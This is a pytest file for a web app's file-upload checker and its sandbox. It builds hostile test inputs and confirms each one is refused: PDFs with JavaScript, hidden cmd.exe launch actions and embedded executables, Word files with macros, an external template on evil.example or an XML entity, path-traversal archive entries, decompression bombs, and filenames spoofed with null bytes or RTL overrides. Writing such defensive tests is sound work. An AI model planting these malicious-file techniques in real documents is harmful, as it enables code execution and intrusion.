"""Files from outside: what is taken, what is refused with a sentence, and that the sandbox holds."""

import io
import subprocess
import sys
import zipfile
from collections.abc import Callable

import openpyxl
import pypdf
import pytest
from PIL import Image
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from app.curricula import commands, queries
from app.curricula.commands.evidence import shown_name
from app.kernel import files, sandbox
from app.kernel.database import Site, reading, writing
from app.kernel.errors import Invalid
from app.kernel.sandbox import Unfit, look
from app.web.evidence import looked_at
from tests.curricula.make import World, a_file, a_pdf, make_curriculum

TYPES = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'


def a_picture(kind: str, size: tuple[int, int] = (30, 20), mode: str = "RGB") -> bytes:
    buffer = io.BytesIO()
    Image.new(mode, size).save(buffer, kind)
    return buffer.getvalue()


def a_workbook() -> bytes:
    buffer = io.BytesIO()
    openpyxl.Workbook().save(buffer)
    return buffer.getvalue()


def a_word_file(**parts: str | bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", TYPES)
        archive.writestr("word/document.xml", "<document/>")
        for name, content in parts.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def changed_pdf(change: Callable[[pypdf.PdfWriter], object]) -> bytes:
    writer = pypdf.PdfWriter(io.BytesIO(a_pdf()))
    change(writer)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def add_script(writer: pypdf.PdfWriter) -> None:
    script = DictionaryObject(
        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert(1)")}
    )
    writer.root_object[NameObject("/OpenAction")] = script


def hide_script(writer: pypdf.PdfWriter) -> None:
    """A launch action nothing points to from the pages: an object among the others."""
    writer._add_object(
        DictionaryObject(
            {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("cmd.exe")}
        )
    )


def outside_template() -> bytes:
    link = '<Relationships><Relationship Type="http://x/attachedTemplate" TargetMode="External" Target="http://evil.example/t"/></Relationships>'
    return a_word_file(**{"word/_rels/settings.xml.rels": link})


def test_each_kind_we_take_is_known_by_its_content() -> None:
    assert look(a_pdf()).model_dump(exclude_none=True) == {"kind": "pdf", "pages": 1}
    assert look(a_picture("PNG")).model_dump(exclude_none=True) == {"kind": "png", "width": 30, "height": 20}
    assert look(a_picture("JPEG")).kind == "jpg"
    assert look(a_workbook()).kind == "xlsx"
    assert look(a_word_file()).kind == "docx"


def test_a_word_file_may_link_to_pages_on_the_web() -> None:
    link = '<Relationships><Relationship Type="http://x/hyperlink" TargetMode="External" Target="http://good.example"/></Relationships>'
    assert look(a_word_file(**{"word/_rels/document.xml.rels": link})).kind == "docx"


FORGED: dict[str, tuple[Callable[[], bytes], str]] = {
    "a program": (lambda: b"MZ\x90\x00 this is not a document", "only PDF"),
    "a page": (lambda: b"<html><script>alert(1)</script></html>", "only PDF"),
    "a drawing with a script": (lambda: b"<svg xmlns='http://www.w3.org/2000/svg'><script/></svg>", "only PDF"),
    "a program that says it is a PDF": (lambda: b"%PDF-1.7\nMZ\x90\x00", "damaged"),
    "a page that says it is a PNG": (lambda: b"\x89PNG\r\n\x1a\n<html>", "damaged"),
    "a GIF that says it is a JPEG": (lambda: b"\xff\xd8\xffGIF89a", "damaged"),
    "half a PDF": (lambda: a_pdf()[:200], "damaged"),
    "half a picture": (lambda: a_picture("PNG", (400, 400))[:60], "damaged"),
    "half a workbook": (lambda: a_workbook()[:900], "damaged"),
    "a PDF with a password": (lambda: changed_pdf(lambda writer: writer.encrypt("secret")), "password"),
    "an old or locked Office file": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "old Office kind"),
    "a PDF with a script": (lambda: changed_pdf(add_script), "runs or fetches"),
    "a PDF with a hidden launch action": (lambda: changed_pdf(hide_script), "runs or fetches"),
    "a PDF with a file inside": (lambda: changed_pdf(lambda writer: writer.add_attachment("a.exe", b"MZ")), "runs or fetches"),
    "a Word file with macros": (lambda: a_word_file(**{"word/vbaProject.bin": b"x"}), "runs or fetches"),
    "a Word file with an outside template": (outside_template, "runs or fetches"),
    "a Word file with an entity": (lambda: a_word_file(**{"word/styles.xml": "<!DOCTYPE a [<!ENTITY b 'c'>]><a/>"}), "runs or fetches"),
    "a Word file in UTF-16": (lambda: a_word_file(**{"word/styles.xml": "<!DOCTYPE a><a/>".encode("utf-16")}), "damaged"),
    "an archive that climbs out": (lambda: a_word_file(**{"../../etc/passwd": "x"}), "damaged"),
    "any other archive": (lambda: a_workbook().replace(b"xl/workbook.xml", b"xl/workbool.xml"), "only PDF"),
    "an archive that unpacks to 300 MB": (lambda: a_word_file(**{"word/media/big": bytes(300 * 1024 * 1024)}), "unpacks"),
    "a picture of 144 million points": (lambda: a_picture("PNG", (12_000, 12_000), "1"), "unpacks"),
}  # fmt: skip


@pytest.mark.parametrize("what", FORGED)
def test_it_is_not_taken_and_the_sentence_says_why(what: str) -> None:
    make, said = FORGED[what]
    with pytest.raises(Unfit, match=said):
        look(make())


def test_a_member_that_lies_about_its_size_is_found_out() -> None:
    honest = a_word_file(**{"word/media/big": bytes(200 * 1024 * 1024)})
    lying = honest.replace((200 * 1024 * 1024).to_bytes(4, "little"), (1000).to_bytes(4, "little"))
    assert lying != honest
    with pytest.raises(Unfit):
        look(lying)


def in_the_sandbox(code: str) -> subprocess.CompletedProcess[str]:
    child = sandbox._CHILD
    script = f"import runpy; child = runpy.run_path({str(child)!r}); child['shut_in'](); {code}"
    return subprocess.run(
        [sys.executable, "-I", "-c", script], capture_output=True, text=True, timeout=30, check=False
    )


def test_the_child_may_not_eat_the_memory_of_the_machine() -> None:
    assert "MemoryError" in in_the_sandbox("bytearray(600 * 1024 * 1024)").stderr


def test_the_child_may_not_compute_for_ever() -> None:
    ended = in_the_sandbox("exec('while True: pass')")
    assert ended.returncode < 0


def test_the_child_may_not_fill_the_disk() -> None:
    ended = in_the_sandbox(
        "import tempfile; f = tempfile.TemporaryFile(); f.write(bytes(1024 * 1024)); f.flush()"
    )
    assert ended.returncode != 0


def test_the_child_reaches_no_network_and_starts_no_program() -> None:
    fence = "import sys, socket, subprocess; sys.addaudithook(child['refuse_the_outside']);"
    assert "PermissionError" in in_the_sandbox(fence + "socket.create_connection(('127.0.0.1', 9))").stderr
    assert "PermissionError" in in_the_sandbox(fence + "subprocess.run(['true'])").stderr


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        ("risks.pdf", "risks.pdf"),
        ("../../etc/passwd", "passwd"),
        ("C:\\Users\\maya\\risks.pdf", "risks.pdf"),
        ("risks\0.pdf.exe", "risks.pdf.exe"),
        ("..", "document.pdf"),
        ("", "document.pdf"),
        ("\u202efdp.exe", "fdp.exe"),
        ("a" * 5000, "a" * 120),
        ("line\r\nbreak: x.pdf", "linebreak: x.pdf"),
        ("Łukasz – ŵyn.pdf", "Łukasz – ŵyn.pdf"),
    ],
)
def test_the_senders_name_is_shown_plainly_and_is_never_a_path(name: str, shown: str) -> None:
    assert shown_name(name, "pdf") == shown


def test_a_document_is_kept_by_its_digest_with_who_gave_it(site: Site, world: World) -> None:
    ref = make_curriculum(site, world.manager)
    with writing(site, world.manager) as unit:
        document = commands.attach(
            unit, queries.find_version(unit, ref), looked_at(a_file("../risks\0.pdf")), "Risks"
        )
        kept = document.ref
    with reading(site, world.manager) as unit:
        row = queries.find_document(unit, kept)
        assert (row.kind, row.pages, row.size, row.name) == ("pdf", 1, len(a_pdf()), "risks.pdf")
        assert row.uploader_name == "Maya" and row.digest == files.digest(a_pdf())
        assert files.fetch(site.settings, row.digest) == a_pdf()


def test_a_file_that_is_not_taken_leaves_nothing_behind(site: Site, world: World) -> None:
    ref = make_curriculum(site, world.manager)
    with pytest.raises(Invalid, match="Nothing was saved") as caught, writing(site, world.manager) as unit:
        commands.attach(unit, queries.find_version(unit, ref), a_file("risks.pdf", b"MZ"), "Risks")
    assert "file" in caught.value.fields
    with reading(site, world.manager) as unit:
        assert not queries.version_view(unit, ref).documents
    assert not (site.settings.data_dir / "files").exists()
